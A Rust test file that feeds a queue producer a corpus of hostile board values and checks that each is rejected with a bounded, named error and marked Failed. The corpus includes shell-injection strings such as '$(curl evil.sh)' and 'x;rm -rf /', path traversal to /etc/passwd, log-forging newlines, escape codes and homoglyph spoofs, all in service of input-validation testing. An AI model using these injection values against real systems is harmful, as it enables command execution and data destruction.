//! The hostile corpus: board values built to reach a shell, leave a folder, forge log
//! lines or flood them. Every one is rejected with an error naming the item and the
//! field, marked Failed with that error as its note, and never enqueued.

use crate::{Item, board_yaml, env};
use kiro_protocol::{Envelope, ItemStatus, QueueDepth, WorkQueue};
use std::time::Duration;

/// (field as written in the board file, field as named in errors, hostile values).
fn corpus() -> Vec<(&'static str, &'static str, Vec<String>)> {
    let long = "a".repeat(10_000);
    let common = |prefix: &str| -> Vec<String> {
        [
            "$(curl evil.sh)",
            "`id`",
            "x;rm -rf /",
            "x|sh",
            "x && reboot",
            "x\nINFO forged log line",
            "../../etc",
            "..",
            "/etc/passwd",
            "x\u{1b}[31mred",
            "x\u{0}y",
            "x\u{7}bell",
            "x\ry",
        ]
        .iter()
        .map(|v| format!("{prefix}{v}"))
        .collect()
    };
    let with = |mut base: Vec<String>, more: &[&str], long: &str| {
        base.extend(more.iter().map(|s| (*s).to_owned()));
        base.push(long.to_owned());
        base.push(String::new());
        base
    };
    vec![
        (
            "id",
            "item id",
            with(
                common(""),
                &["CALC\u{2010}1", "\u{421}ALC-1", "A B", "A/B"],
                &long,
            ),
        ),
        (
            "project",
            "project",
            with(common(""), &["c\u{430}lc", "calc\u{200b}", "-calc"], &long),
        ),
        (
            "repo",
            "repo",
            with(
                common("acme/"),
                &[
                    "\u{430}cme/calc",
                    "acme/cal\u{441}",
                    "acme\u{2215}calc",
                    "acme/calc/extra",
                    "-acme/calc",
                ],
                &long,
            ),
        ),
        (
            "branch",
            "branch",
            with(
                common("feature/"),
                &[
                    "feature/\u{455}ubtract",
                    "feature/a\u{200b}b",
                    "feature/\u{202e}txt.exe",
                    "-rf",
                    "feature/x.lock",
                    "HEAD",
                ],
                &long,
            ),
        ),
        (
            "spec",
            "spec",
            with(
                common(".kiro/specs/"),
                &[
                    ".kiro/specs/\u{455}ubtract",
                    ".kiro\u{2215}specs\u{2215}x",
                    "\u{ff0e}\u{ff0e}/etc",
                    ".kiro/specs/../../../etc/passwd",
                    ".kiro/steering/evil",
                    "/etc/passwd",
                ],
                &long,
            ),
        ),
        (
            "pr",
            "pull request",
            vec![
                "1; rm -rf /".into(),
                "$(id)".into(),
                "-1".into(),
                "0".into(),
                "\u{ff11}".into(),
                "1\n2".into(),
                "9".repeat(10_000),
                String::new(),
            ],
        ),
    ]
}

fn hostile_items() -> Vec<(Item, &'static str)> {
    let mut out = Vec::new();
    for (field, shown, values) in corpus() {
        for (n, value) in values.into_iter().enumerate() {
            let mut item = Item::good(&format!("H-{field}-{n}"), "evil");
            match field {
                "id" => item.id = value,
                "project" => item.project = value,
                "repo" => item.repo = value,
                "branch" => item.branch = value,
                "spec" => item.spec = value,
                "pr" => item.pr = value,
                other => panic!("unknown field {other}"),
            }
            out.push((item, shown));
        }
    }
    out
}

#[tokio::test]
async fn every_hostile_item_is_rejected_named_and_marked_failed() {
    let hostile = hostile_items();
    assert!(hostile.len() > 80, "corpus too small: {}", hostile.len());
    let items: Vec<Item> = hostile.iter().map(|(i, _)| i.clone()).collect();
    let env = env(&board_yaml(&items));

    let report = env.producer.tick().await.unwrap();
    assert!(report.enqueued.is_empty(), "{:?}", report.enqueued);
    assert!(report.duplicates.is_empty());
    assert_eq!(report.rejected.len(), hostile.len());
    assert_eq!(env.queue.depth().await.unwrap(), QueueDepth::default());

    let entries = env.board.items().await.unwrap();
    assert_eq!(entries.len(), hostile.len());
    for ((item, field), (shown_id, error)) in hostile.iter().zip(&report.rejected) {
        let quoted = kiro_protocol::ids::quote_for_display(&item.id);
        assert_eq!(shown_id, &quoted);
        assert!(
            error.starts_with(&format!("item {quoted}: invalid {field} ")),
            "expected the item and {field} to be named: {error}"
        );
        assert!(
            !error.contains(['\n', '\r', '\u{1b}', '\u{0}', '\u{7}']),
            "control characters leaked into {error:?}"
        );
        assert!(error.chars().count() < 400, "unbounded error: {error}");

        let entry = entries
            .iter()
            .find(|e| e.item.id == item.id)
            .unwrap_or_else(|| panic!("no board entry for {quoted}"));
        assert_eq!(entry.status, Some(ItemStatus::Failed), "{quoted}");
        assert_eq!(entry.note.as_deref(), Some(error.as_str()), "{quoted}");
    }

    // Failed items are not ready any more: the next tick does nothing at all.
    let again = env.producer.tick().await.unwrap();
    assert!(
        again.rejected.is_empty() && again.enqueued.is_empty(),
        "{again:?}"
    );
    assert_eq!(env.queue.depth().await.unwrap(), QueueDepth::default());
}

#[tokio::test]
async fn a_good_item_among_hostile_ones_is_still_enqueued() {
    let mut items: Vec<Item> = hostile_items().into_iter().map(|(i, _)| i).collect();
    let middle = items.len() / 2;
    items.insert(middle, Item::good("GOOD-1", "calc"));
    let env = env(&board_yaml(&items));

    let report = env.producer.tick().await.unwrap();
    let ids: Vec<_> = report.enqueued.iter().map(|i| i.as_str()).collect();
    assert_eq!(ids, ["GOOD-1"]);
    assert_eq!(report.rejected.len(), items.len() - 1);
    assert_eq!(env.visible().await, 1);

    let got = env.queue.receive(10, Duration::ZERO).await.unwrap();
    assert_eq!(got.len(), 1);
    let e = Envelope::decode(&got[0].body).unwrap();
    assert_eq!(e.item.id.as_str(), "GOOD-1");
    assert_eq!(got[0].group, "calc");
    assert_eq!(
        env.board.status_of("GOOD-1").await.unwrap(),
        Some(ItemStatus::Queued)
    );
}

/// One id used twice rejects those two items by name (with both lines) and marks them
/// Failed; the valid items of the board still go.
#[tokio::test]
async fn a_duplicate_id_rejects_its_items_and_the_rest_still_goes() {
    let items = [
        Item::good("DUP-1", "calc"),
        Item::good("GOOD-1", "calc"),
        Item::good("DUP-1", "web"),
        Item::good("GOOD-2", "web"),
    ];
    let env = env(&board_yaml(&items));
    let report = env.producer.tick().await.unwrap();
    let mut ids: Vec<_> = report.enqueued.iter().map(|i| i.as_str()).collect();
    ids.sort_unstable();
    assert_eq!(ids, ["GOOD-1", "GOOD-2"]);
    assert_eq!(report.rejected.len(), 2, "{:?}", report.rejected);
    for (item, error) in &report.rejected {
        assert_eq!(item, "\"DUP-1\"");
        assert!(
            error.contains("invalid id") && error.contains("used by 2 items"),
            "{error}"
        );
    }
    assert_eq!(env.visible().await, 2);
    assert_eq!(
        env.board.status_of("DUP-1").await.unwrap(),
        Some(ItemStatus::Failed)
    );
}
